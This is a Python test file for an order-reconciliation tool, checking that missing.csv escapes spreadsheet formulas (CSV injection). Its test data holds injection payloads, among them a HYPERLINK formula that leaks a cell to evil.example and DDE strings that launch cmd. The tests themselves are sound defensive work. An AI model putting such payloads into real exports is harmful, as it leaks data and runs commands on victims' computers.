"""missing.csv never hands a spreadsheet a formula from the shop's export (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import subprocess
import sys
from pathlib import Path

import pytest
from reconcile_exports import write_csv

from auditor.reconcile.outputs import spreadsheet_safe

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Pay here")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("=1", "'=1"),
        ("-", "'-"),
        ("+34 600 000 000", "'+34 600 000 000"),  # not a number to a spreadsheet: kept as the text it is
        ("-12.50", "-12.50"),
        ("-1.234,56", "-1.234,56"),
        ("+34600000000", "+34600000000"),
        ("-٣", "'-٣"),  # only ASCII digits make a number
        ("Ana =HYPERLINK(1)", "Ana =HYPERLINK(1)"),  # a formula starts at the first character only
        ("12.50", "12.50"),
        ("", ""),
        # leading whitespace, which some spreadsheets trim before reading the cell
        ("  " + HYPERLINK, "'  " + HYPERLINK),
        (" @SUM(A1:A9)", "' @SUM(A1:A9)"),
        ("\n=1+1", "'\n=1+1"),
        ("\u00a0=1", "'\u00a0=1"),  # a no-break space is whitespace too
        (" -12.50", " -12.50"),  # still a number
        ("  +34600000000", "  +34600000000"),
        (" +34 600 000 000", "' +34 600 000 000"),
        ("   ", "   "),
        # a NUL is never written: a file holding one is binary, not CSV
        ("Ana\x00Bob", "Ana\ufffdBob"),
        ("\x00=1", "\ufffd=1"),  # no longer a formula: it starts with U+FFFD
        (" \x00", " \ufffd"),
    ],
)
def test_the_rule_cell_by_cell(cell: str, written: str) -> None:
    assert spreadsheet_safe(cell) == written


def test_missing_csv_from_the_command_neutralises_every_formula(tmp_path: Path) -> None:
    header = ["order_id", "=customer", "phone", "total", "status"]
    orders = [
        ["1001", HYPERLINK, "+34 600 000 000", "-12.50", "completed"],
        ["=2+5", "@SUM(A1:A9)", "+34600000000", "+3.00", "completed"],
        ["1003", "Ana\t", "\t+1", "-1.234,56", "completed"],
        ["1004", "found", "", "10.00", "completed"],
    ]
    write_csv(tmp_path / "orders.csv", header, orders, delimiter=";")
    write_csv(tmp_path / "purchases.csv", ["purchase_id"], [["1004"]])
    out = tmp_path / "out"
    done = subprocess.run(
        [
            *(sys.executable, "-m", "auditor", "reconcile"),
            *("--orders", "orders.csv", "--purchases", "purchases.csv", "--out", str(out)),
        ],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 1, done.stderr  # three of four orders lost
    with (out / "missing.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh, delimiter=";"))
    assert rows == [
        ["line", "normalised_id", "order_id", "'=customer", "phone", "total", "status"],
        ["2", "1001", "1001", "'" + HYPERLINK, "'+34 600 000 000", "-12.50", "completed"],
        ["3", "'=2+5", "'=2+5", "'@SUM(A1:A9)", "+34600000000", "+3.00", "completed"],
        ["4", "1003", "1003", "Ana\t", "'\t+1", "-1.234,56", "completed"],
    ]


def test_missing_csv_quotes_a_formula_after_spaces_and_writes_no_nul(tmp_path: Path) -> None:
    # The reader refuses a NUL in the first 64 KiB it sniffs as binary; one further down is read.
    found = [[str(n), f"customer {n}", "10.00", "completed"] for n in range(1, 3001)]
    lost = [
        ["9001", "  " + HYPERLINK, " -12.50", "completed"],
        ["9002", "Ana\x00Bob", "\t+1", "completed"],
    ]
    write_csv(tmp_path / "orders.csv", ["order_id", "customer", "total", "status"], found + lost)
    assert (tmp_path / "orders.csv").read_bytes().index(b"\x00") > 64 * 1024
    write_csv(tmp_path / "purchases.csv", ["purchase_id"], [[str(n)] for n in range(1, 3001)])
    out = tmp_path / "out"
    done = subprocess.run(
        [
            *(sys.executable, "-m", "auditor", "reconcile"),
            *("--orders", "orders.csv", "--purchases", "purchases.csv", "--out", str(out)),
        ],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 1, done.stderr  # the two orders are lost
    data = (out / "missing.csv").read_bytes()
    assert b"\x00" not in data
    with (out / "missing.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[1:] == [
        ["3002", "9001", "9001", "'  " + HYPERLINK, " -12.50", "completed"],
        ["3003", "9002", "9002", "Ana\ufffdBob", "'\t+1", "completed"],
    ]
